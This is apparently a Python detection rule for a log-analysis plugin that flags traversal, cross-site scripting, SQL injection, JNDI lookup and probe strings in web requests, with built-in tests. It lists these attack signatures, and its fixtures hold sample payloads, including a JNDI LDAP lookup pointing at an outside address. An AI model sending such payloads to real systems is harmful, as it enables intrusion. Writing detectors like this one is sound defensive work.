from urllib.parse import unquote_plus

from pluginhost import Alert, Event, analyzer

KNOWN_BAD = {
    "../": "path traversal",
    "/etc/passwd": "path traversal",
    "<script": "cross-site scripting",
    "union select": "SQL injection",
    "' or '1'='1": "SQL injection",
    "${jndi:": "JNDI lookup",
    "/.git/": "exposed repository",
    "wp-login.php": "CMS probe",
}


@analyzer(where="event.category:web AND _exists_:url.original", group="source.ip")
def web_signatures(event: Event) -> Alert | None:
    """Known-bad strings in web requests.

    Looks for a short list of strings in the requested URL and the user agent, as they are and percent-decoded, in any case.
    """
    asked = f"{event['url.original']} {event.get('user_agent.original', '')}"
    text = f"{asked} {unquote_plus(asked)}".lower()
    found = next((what for sign, what in KNOWN_BAD.items() if sign in text), None)
    if found is None:
        return None
    return Alert("medium", f"{found} attempt from {event.get('source.ip', 'unknown')}", technique="T1190",
                 reason=f"the request holds a known-bad string: {found}")


def line(path, agent="curl/8.5"):
    return f'203.0.113.9 - - [21/Nov/2026:10:00:00 +0000] "GET {path} HTTP/1.1" 200 12 "-" "{agent}"'


web_signatures.fires_on(line("/search?q=%3CScript%3Ealert(1)"), tag="web.access")
web_signatures.fires_on(line("/", agent="${jndi:ldap://203.0.113.9/a}"), tag="web.access")
web_signatures.quiet_on(line("/search?q=script+union+of+painters"), tag="web.access")
web_signatures.survives([line("/" + "%" * 50), line("/%ff%fe"), "203.0.113.9 - - [", {"message": None}], tag="web.access")
